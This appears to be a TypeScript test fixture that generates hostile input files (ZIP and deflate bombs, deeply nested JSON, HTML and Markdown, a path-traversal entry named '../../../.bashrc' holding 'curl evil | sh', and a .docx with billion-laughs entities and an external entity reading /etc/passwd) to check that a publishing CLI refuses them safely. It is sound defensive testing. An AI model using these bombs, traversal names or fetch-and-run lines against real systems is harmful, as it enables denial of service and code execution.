/**
 * The hostile corpus of issue 7, generated (never committed as big files): each case is a file an
 * attacker could hand an officer, the CLI command that reads it, and what must come out — the exit
 * code and the plain sentence. Used by hostile-corpus.test.ts and e2e/bench/hostile.ts. Test-only.
 */
import { crc32, deflateRawSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { badBodyFile, nestedDocRelease, objectAltRelease } from '../core/document/bad-bodies.fixture';
import { packRelease } from '../core/document/file-format';
import { jpegHeader, pngHeader } from '../core/document/image-fixtures';
import { createRelease, FORMAT_VERSION, type Asset, type Release } from '../core/document/release';
import { sha256Hex } from '../core/document/sha256';

const MiB = 1024 * 1024;
const VERSION = `${FORMAT_VERSION.major}.${FORMAT_VERSION.minor}`;

/** One entry of a ZIP written by hand: data deflated (or stored) here, or given already deflated. */
interface RawEntry {
  name: string;
  data?: Uint8Array;
  /** Already-deflated bytes with the unpacked size and CRC they stand for (lets one chunk stand for many). */
  packed?: { bytes: Uint8Array; size: number; crc: number };
  store?: boolean;
}

/** A ZIP of these entries in this order (duplicates and odd names included), as any writer would make it. */
export function rawZip(entries: readonly RawEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = entry.data ?? new Uint8Array();
    const packed = entry.packed ?? (entry.store ? { bytes: data, size: data.length, crc: crc32(data) } : { bytes: deflateRawSync(data, { level: 6 }), size: data.length, crc: crc32(data) });
    const method = entry.store && !entry.packed ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(packed.crc, 14);
    local.writeUInt32LE(packed.bytes.length, 18);
    local.writeUInt32LE(packed.size, 22);
    local.writeUInt16LE(name.length, 26);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(method, 10);
    record.writeUInt32LE(packed.crc, 16);
    record.writeUInt32LE(packed.bytes.length, 20);
    record.writeUInt32LE(packed.size, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(packed.bytes.buffer, packed.bytes.byteOffset, packed.bytes.length));
    central.push(record, name);
    offset += 30 + name.length + packed.bytes.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const manifest = (): RawEntry => ({ name: 'manifest.json', data: strToU8(JSON.stringify({ format: 'pressdesk', version: VERSION, generator: 'hostile' })) });
const documentEntry = (release: unknown): RawEntry => ({ name: 'document.json', data: strToU8(JSON.stringify({ format: 'pressdesk', version: VERSION, release })) });
const release = (headline = 'Bản tin'): Release => ({ ...createRelease('news'), headline });

/** Bytes of a repeated pattern, deflated once per chunk: 100 MiB of XML costs a 1 MiB deflate, not 100. */
function repeatedDeflate(unit: string, totalBytes: number): { bytes: Uint8Array; size: number; crc: number } {
  const chunk = Buffer.from(unit.repeat(Math.max(1, Math.floor(MiB / unit.length))));
  const count = Math.floor(totalBytes / chunk.length);
  // One deflate of the chunk, then the same block again and again; the final block marks the end.
  const parts: Buffer[] = [];
  let crc = 0;
  for (let i = 0; i < count; i++) crc = crc32(chunk, crc);
  const block = deflateRawSync(chunk, { level: 1, finishFlush: 2 /* Z_SYNC_FLUSH: not the final block */ });
  for (let i = 0; i < count; i++) parts.push(block);
  parts.push(deflateRawSync(Buffer.alloc(0)));
  return { bytes: new Uint8Array(Buffer.concat(parts)), size: count * chunk.length, crc };
}

/**
 * `count` photo-shaped entries of `size` bytes each, deflating ~50:1 (like the 960 MB case). The
 * list calls them JPEGs although they start like PNGs: a lie the asset check must catch.
 */
function photoEntries(count: number, size: number): { entries: RawEntry[]; assets: Asset[] } {
  const data = new Uint8Array(size);
  data.set(pngHeader(4000, 3000));
  for (let i = 64; i < size; i += 200) data[i] = (i * 2654435761) >>> 24;
  const packed = { bytes: new Uint8Array(deflateRawSync(data, { level: 1 })), size, crc: crc32(data) };
  const entries: RawEntry[] = [];
  const assets: Asset[] = [];
  for (let i = 0; i < count; i++) {
    const hash = sha256Hex(strToU8(`photo ${i}`));
    entries.push({ name: `assets/${hash}.jpg`, packed });
    assets.push({ hash, ext: 'jpg', mime: 'image/jpeg', width: 4000, height: 3000, bytes: size });
  }
  return { entries, assets };
}

/** A minimal .docx mammoth reads: content types, the package relationship and document.xml. */
function docxEntries(document: RawEntry, extra: RawEntry[] = []): Uint8Array {
  const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
  return rawZip([{ name: '[Content_Types].xml', data: strToU8(types) }, { name: '_rels/.rels', data: strToU8(rels) }, document, ...extra]);
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const wordDocument = (body: string): RawEntry => ({ name: 'word/document.xml', data: strToU8(`<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`) });

export type HostileCommand = 'verify' | 'import' | 'export';

export interface HostileCase {
  id: string;
  /** What the file is, in a few words. */
  what: string;
  /** The file's name; its extension decides how the CLI reads it. */
  file: string;
  make(): Uint8Array;
  command: HostileCommand;
  /** Other files the command needs, written beside it. */
  beside?: Record<string, () => Uint8Array>;
  /** Arguments after the file (default: import --out, export --to html --draft --out). */
  args?: string[];
  exit: number;
  /** What the command must say (stdout and stderr together). */
  says: RegExp;
}

const TOO_LARGE = /too large or has too many parts to read safely/;
const TOO_COMPLEX = /too large or too complex to open/;
const DAMAGED = /damaged and cannot be read/;
const NOT_PRESSDESK = /not a PressDesk file/;

export const HOSTILE_CASES: readonly HostileCase[] = [
  // --- the cases of issue 7 --------------------------------------------------------------------
  { id: 'docx-100mib-document-xml', what: '.docx whose word/document.xml is 100 MiB of tiny paragraphs', file: 'tiny-paragraphs.docx', command: 'import', exit: 1, says: TOO_LARGE,
    make: () => docxEntries({ name: 'word/document.xml', packed: repeatedDeflate('<w:p><w:r><w:t>x</w:t></w:r></w:p>', 100 * MiB) }) },
  { id: 'pressdesk-18m-empty-arrays', what: 'document.json of 18.5 million empty arrays (55 MB)', file: 'empty-arrays.pressdesk', command: 'verify', exit: 1, says: TOO_LARGE,
    make: () => rawZip([manifest(), { name: 'document.json', packed: repeatedDeflate('[],', 18_500_000 * 3) }]) },
  { id: 'pressdesk-photos-960mb', what: 'photos inflating to 960 MB from a small file', file: 'photos-960.pressdesk', command: 'verify', exit: 1, says: TOO_LARGE,
    make: () => { const { entries, assets } = photoEntries(32, 30 * MiB); return rawZip([manifest(), documentEntry({ ...release(), assets }), ...entries]); } },
  { id: 'html-200k-nested-blockquotes', what: '200,000 nested <blockquote> (2.4 MB)', file: 'nested.html', command: 'import', exit: 1, says: TOO_COMPLEX,
    make: () => strToU8('<blockquote>'.repeat(200_000) + 'x' + '</blockquote>'.repeat(200_000)) },
  { id: 'md-list-3000-deep', what: 'a Markdown list nested 3,000 deep', file: 'nested.md', command: 'import', exit: 1, says: TOO_COMPLEX,
    make: () => strToU8('Tiêu đề\n\n' + Array.from({ length: 3_000 }, (_, i) => ' '.repeat(i) + '- mục\n').join('')) },
  { id: 'pressdesk-nested-doc', what: 'a body with a doc node nested in it', file: 'nested-doc.pressdesk', command: 'export', exit: 1, says: /damaged and cannot be read\. \(body\.content\[1\]: doc cannot go inside doc/,
    make: () => badBodyFile(nestedDocRelease()) },
  { id: 'pressdesk-object-alt', what: "a figure whose alt is an object", file: 'object-alt.pressdesk', command: 'export', exit: 1, says: /damaged and cannot be read\. \(body\..*alt/,
    make: () => badBodyFile(objectAltRelease()) },
  // --- our own ---------------------------------------------------------------------------------
  { id: 'pressdesk-empty-arrays-under-size', what: '5 million empty arrays within the JSON size limit', file: 'arrays-5m.pressdesk', command: 'verify', exit: 1, says: TOO_COMPLEX,
    // Stored: deflated, the ratio guard would refuse it first.
    make: () => rawZip([manifest(), { name: 'document.json', data: strToU8('{"release":[' + '[],'.repeat(5_000_000) + '[]]}'), store: true }]) },
  { id: 'pressdesk-deep-json', what: 'document.json nested 1,000,000 deep', file: 'deep.pressdesk', command: 'verify', exit: 1, says: TOO_COMPLEX,
    make: () => rawZip([manifest(), { name: 'document.json', data: strToU8('['.repeat(1_000_000) + ']'.repeat(1_000_000)), store: true }]) },
  { id: 'pressdesk-flat-bomb', what: 'document.json of 1 GiB of zeros (ratio 1000:1)', file: 'flat-bomb.pressdesk', command: 'verify', exit: 1, says: TOO_LARGE,
    make: () => rawZip([manifest(), { name: 'document.json', packed: repeatedDeflate('\0'.repeat(1024), 1024 * MiB - 1) }]) },
  { id: 'pressdesk-nested-bomb', what: 'an asset that is itself a ZIP bomb', file: 'nested-bomb.pressdesk', command: 'export', exit: 1, says: DAMAGED,
    make: () => {
      const inner = zipSync({ 'bomb.bin': [new Uint8Array(64 * MiB), { level: 9 }] });
      const asset: Asset = { hash: sha256Hex(inner), ext: 'png', mime: 'image/png', width: 10, height: 10, bytes: inner.length };
      return rawZip([manifest(), documentEntry({ ...release(), assets: [asset] }), { name: `assets/${asset.hash}.png`, data: inner, store: true }]);
    } },
  { id: 'pressdesk-photos-near-limit', what: 'five 30 MiB "photos" (150 MiB, just under the limit) that are no photos', file: 'photos-150.pressdesk', command: 'export', exit: 1,
    // Unpacked within the ZIP limits, then refused as no photos, or earlier by the bounded reader's memory watch.
    says: /damaged and cannot be read|too large or too complex to open/,
    make: () => { const { entries, assets } = photoEntries(5, 30 * MiB); return rawZip([manifest(), documentEntry({ ...release(), assets }), ...entries]); } },
  { id: 'pressdesk-10000-entries', what: '10,000 entries', file: 'entries.pressdesk', command: 'verify', exit: 1, says: TOO_LARGE,
    make: () => rawZip([manifest(), documentEntry(release()), ...Array.from({ length: 10_000 }, (_, i): RawEntry => ({ name: `assets/${sha256Hex(strToU8(String(i)))}.png`, data: new Uint8Array(1), store: true }))]) },
  { id: 'pressdesk-traversal-name', what: 'an entry named ../../../.bashrc', file: 'traversal.pressdesk', command: 'verify', exit: 1, says: DAMAGED,
    make: () => rawZip([manifest(), documentEntry(release()), { name: '../../../.bashrc', data: strToU8('curl evil | sh') }]) },
  { id: 'pressdesk-duplicate-names', what: 'document.json twice, the second one different', file: 'duplicate.pressdesk', command: 'verify', exit: 1, says: DAMAGED,
    make: () => rawZip([manifest(), documentEntry(release('Một')), documentEntry(release('Hai'))]) },
  { id: 'pressdesk-wrong-types', what: 'every field of the release the wrong type', file: 'wrong-types.pressdesk', command: 'verify', exit: 1, says: DAMAGED,
    make: () => rawZip([manifest(), documentEntry({ kind: 7, headline: ['x'], sapo: {}, body: 'text', assets: {}, approvals: 'yes', workflow: [], author: 1 })]) },
  { id: 'pressdesk-lying-image-header', what: 'a PNG header claiming 100,000 x 100,000 pixels', file: 'lying-png.pressdesk', command: 'export', exit: 1, says: DAMAGED,
    make: () => {
      const bytes = pngHeader(100_000, 100_000);
      const asset: Asset = { hash: sha256Hex(bytes), ext: 'png', mime: 'image/png', width: 100_000, height: 100_000, bytes: bytes.length };
      return rawZip([manifest(), documentEntry({ ...release(), assets: [asset] }), { name: `assets/${asset.hash}.png`, data: bytes, store: true }]);
    } },
  { id: 'pressdesk-jpeg-named-png', what: 'JPEG bytes in an entry that says PNG', file: 'jpeg-as-png.pressdesk', command: 'export', exit: 1, says: DAMAGED,
    make: () => {
      const bytes = jpegHeader(8, 8);
      const asset: Asset = { hash: sha256Hex(bytes), ext: 'png', mime: 'image/png', width: 8, height: 8, bytes: bytes.length };
      return rawZip([manifest(), documentEntry({ ...release(), assets: [asset] }), { name: `assets/${asset.hash}.png`, data: bytes, store: true }]);
    } },
  { id: 'pressdesk-truncated', what: 'a release cut in half', file: 'truncated.pressdesk', command: 'verify', exit: 1, says: NOT_PRESSDESK,
    make: () => { const whole = packRelease(release(), { assets: new Map() }); return whole.subarray(0, whole.length >> 1); } },
  { id: 'pressdesk-invalid-utf8', what: 'document.json with bytes that are not UTF-8', file: 'bad-utf8.pressdesk', command: 'verify', exit: 1, says: DAMAGED,
    make: () => {
      const text = Buffer.from(JSON.stringify({ format: 'pressdesk', version: VERSION, release: release('XX') }));
      const at = text.indexOf('XX');
      text[at] = 0xc3;
      text[at + 1] = 0x28;
      return rawZip([manifest(), { name: 'document.json', data: new Uint8Array(text) }]);
    } },
  { id: 'txt-invalid-utf8', what: 'a .txt that is neither UTF-8 nor UTF-16', file: 'latin1.txt', command: 'import', exit: 1, says: /neither UTF-8 nor UTF-16/,
    make: () => new Uint8Array([0x48, 0xf4, 0x69, 0x20, 0x6e, 0x67, 0x68, 0xe9, 0x0a]) },
  { id: 'docx-many-elements', what: '.docx with 150,000 empty paragraphs (1 MB of XML)', file: 'many-elements.docx', command: 'import', exit: 1, says: TOO_COMPLEX,
    make: () => docxEntries(wordDocument('<w:p/>'.repeat(150_000))) },
  { id: 'docx-lying-size', what: '.docx whose document.xml inflates beyond its declared size', file: 'lying-size.docx', command: 'import', exit: 1, says: /document is damaged/,
    make: () => { const xml = strToU8(`<w:document ${W}>${'<w:p/>'.repeat(1000)}</w:document>`); return docxEntries({ name: 'word/document.xml', packed: { bytes: new Uint8Array(deflateRawSync(xml)), size: 100, crc: crc32(xml) } }); } },
  { id: 'docx-dtd-entities', what: '.docx whose document.xml declares a DTD: nested entities (billion laughs) and an external one', file: 'entities.docx', command: 'import', exit: 1, says: /declares a DTD or entities/,
    make: () => docxEntries({ name: 'word/document.xml', data: strToU8(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body><w:p><w:r><w:t>&c;&x;</w:t></w:r></w:p></w:body></w:document>`) }) },
  { id: 'html-many-tags', what: '250,000 <i> tags', file: 'tags.html', command: 'import', exit: 1, says: TOO_COMPLEX,
    make: () => strToU8('<p>' + '<i>a</i>'.repeat(250_000) + '</p>') },
  { id: 'html-too-big', what: '9 MiB of HTML text', file: 'big.html', command: 'import', exit: 1, says: TOO_LARGE,
    make: () => strToU8('<p>' + 'lorem ipsum '.repeat(800_000) + '</p>') },
  { id: 'html-nested-figures', what: '250 nested <figure> around 150,000 spans', file: 'figures.html', command: 'import', exit: 0, says: /Wrote/,
    make: () => strToU8('<figure>'.repeat(250) + '<span>x</span>'.repeat(150_000) + '</figure>'.repeat(250)) },
  { id: 'html-many-links', what: '150,000 links in one paragraph', file: 'links.html', command: 'import', exit: 0, says: /Wrote/,
    make: () => strToU8('<p>' + '<a href="https://x.vn">y</a>'.repeat(150_000) + '</p>') },
  { id: 'pressdesk-json-near-limits', what: 'a valid release of 40,000 paragraphs (240,000 JSON values, 3 MB), just under the count', file: 'near-limits.pressdesk', command: 'verify', exit: 1,
    // Read and shown as a draft; on a loaded machine the bounded reader's time limit may stop it first.
    says: /Draft|too large or too complex to open/,
    make: () => {
      const body = { type: 'doc', content: Array.from({ length: 40_000 }, (_, i) => ({ type: 'paragraph', content: [{ type: 'text', text: `Đoạn ${i} của bản tin.` }] })) };
      return rawZip([manifest(), documentEntry({ ...release(), body })]);
    } },
  { id: 'md-inline-brackets', what: 'a Markdown paragraph of 2 million "["', file: 'brackets.md', command: 'import', exit: 0, says: /Wrote/,
    make: () => strToU8('Tiêu đề\n\n' + '['.repeat(2_000_000)) },
  { id: 'md-underscores', what: 'a Markdown paragraph of 3 million "a_"', file: 'underscores.md', command: 'import', exit: 0, says: /Wrote/,
    make: () => strToU8('Tiêu đề\n\n' + 'a_'.repeat(3_000_000)) },
  { id: 'md-long-space-run', what: 'a Markdown line with 5 million spaces inside', file: 'spaces.md', command: 'import', exit: 0, says: /Wrote/,
    make: () => strToU8('Tiêu đề\n\na' + ' '.repeat(5_000_000) + 'b\nc\n') },
  { id: 'trusted-list-deep-json', what: 'a trusted approvers list nested 1,000,000 deep', file: 'good.pressdesk', command: 'verify', exit: 1, says: /--trusted deep-list\.json: not a trusted approvers file/,
    args: ['--trusted', 'deep-list.json'], beside: { 'deep-list.json': () => strToU8('['.repeat(1_000_000) + ']'.repeat(1_000_000)) },
    make: () => packRelease(release(), { assets: new Map() }) },
];

/** The CLI arguments for a case whose file was written as `file` (outputs go beside it). */
export function hostileArgv(c: HostileCase): string[] {
  const rest = c.args ?? (c.command === 'import' ? ['--out', `${c.id}-out.pressdesk`] : c.command === 'export' ? ['--to', 'html', '--draft', '--out', `${c.id}-out.html`] : []);
  return [c.command, c.file, ...rest];
}

/** The error code the app shows for a refused case (the CLI's sentence says the same); null when it succeeds. */
export function expectedAppCode(c: HostileCase): RegExp | null {
  if (c.exit === 0) return null;
  const byWords: [string, string][] = [
    ['too many parts', 'too-large'],
    ['too complex', 'too-complex'],
    ['cannot be read', 'corrupt'],
    ['not a PressDesk', 'not-pressdesk'],
    ['UTF-16', 'import-failed'],
    ['document is damaged', 'import-failed'],
    ['declares a DTD', 'import-failed'],
  ];
  const codes = byWords.filter(([words]) => c.says.source.includes(words)).map(([, code]) => code);
  // A case that may also succeed (a draft shown) is no refusal to look for in the app.
  return codes.length > 0 && !c.says.source.includes('Draft') ? new RegExp(`^(?:${codes.join('|')})$`) : null;
}

/** A release anyone can open: the "process is still alive and still works" check after each case. */
export const goodReleaseFile = (): Uint8Array => packRelease({ ...release('Bản tin bình thường'), body: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Nội dung.' }] }] } }, { assets: new Map() });
